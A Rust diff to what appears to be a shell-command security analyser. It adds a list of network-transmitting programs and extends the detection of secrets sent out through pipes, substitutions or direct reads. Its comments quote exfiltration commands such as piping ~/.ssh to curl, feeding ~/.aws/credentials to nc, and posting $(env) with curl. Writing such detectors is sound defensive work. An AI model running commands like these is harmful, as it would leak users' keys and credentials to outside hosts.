@@ -465,10 +465,19 @@ fn later_text(
     }
 }
 
-/// A secret carried by a pipe to the network: command `i` (whose effects start at `from` in
-/// `out`) sends to a remote what a command feeding it, directly or through filters
-/// (`base64`, `gzip`, `tar`), read from a secrets place (`tar czf - ~/.ssh | curl -T - URL`).
-/// The send is then also at that secret. Records what command `i` itself read.
+/// Programs that carry whatever data they are given to another host: a secret reaching one
+/// of them leaves the machine. (A secret manager's CLI, `gh secret set`, `kubectl create
+/// secret`, `fly secrets import`, is where secrets belong, and is not one of them.)
+const TRANSMITTERS: &[&str] = &[
+    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync",
+    "rclone", "croc", "http", "https", "xh", "openssl",
+];
+
+/// A secret carried to the network: command `i` (whose effects start at `from` in `out`) is
+/// a transmitter, and what it sends includes a secret: one it reads itself (`nc HOST <
+/// ~/.aws/credentials`, `rsync ~/.ssh/ HOST:`), or one a command feeding it read, through a
+/// pipe and filters (`tar czf - ~/.ssh | curl -T - URL`) or a substitution (`curl -d
+/// "$(env)" URL`). The send is then also at that secret. Records what command `i` read.
 fn carried_secret(
     parsed: &Parsed<'_>,
     i: usize,
@@ -484,26 +493,39 @@ fn carried_secret(
     {
         secret_read.push((i, e.target.clone()));
     }
+    let cmd = &parsed.commands[i];
     if secret_read.is_empty()
+        || !TRANSMITTERS.contains(&&*cmd.program)
         || !mine
             .iter()
             .any(|e| e.act == Act::Send && e.place == Place::Remote)
     {
         return;
     }
-    // Producers upstream of `i`, bounded by the number of commands.
+    let read_by = |k: usize| {
+        secret_read
+            .iter()
+            .find(|(c, _)| *c == k)
+            .map(|(_, t)| t.clone())
+    };
+    // Its own read, then the substitutions just before it, then its producers upstream
+    // (bounded by the number of commands).
+    let mut found = read_by(i);
+    for k in (0..i).rev() {
+        if found.is_some() || !in_substitution(&parsed.commands[k]) {
+            break;
+        }
+        found = read_by(k);
+    }
     let mut frontier = vec![i];
     let mut seen = vec![false; parsed.commands.len()];
-    let mut found = None;
-    while let Some(k) = frontier.pop() {
+    while let (None, Some(k)) = (&found, frontier.pop()) {
         for &(a, b) in &parsed.pipes {
             if b != k || seen.get(a).copied().unwrap_or(true) {
                 continue;
             }
             seen[a] = true;
-            if let Some((_, t)) = secret_read.iter().find(|(k, _)| *k == a) {
-                found = Some(t.clone());
-            }
+            found = found.or_else(|| read_by(a));
             frontier.push(a);
         }
     }
